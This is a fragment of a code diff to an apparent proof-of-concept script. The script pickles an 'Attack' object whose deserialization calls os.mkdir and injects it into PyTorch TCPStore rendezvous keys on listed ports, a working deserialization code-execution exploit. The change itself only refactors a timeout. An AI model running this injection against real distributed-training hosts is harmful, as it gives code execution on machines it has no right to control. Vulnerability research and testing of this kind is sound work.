@@ -102,7 +102,8 @@ class Attack:
         return os.mkdir, (sys.argv[2],)
 attack = base64.b64encode(pickle.dumps(Attack()))
 def put(port):
-    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
+    limit = timedelta(seconds=1)
+    store = TCPStore("127.0.0.1", port, is_master=False, timeout=limit, wait_for_workers=False)
     store.set("torch.rendezvous.ranks", attack)
     print(f"port {port} took it", flush=True)
 for port in sys.argv[1].split(","):
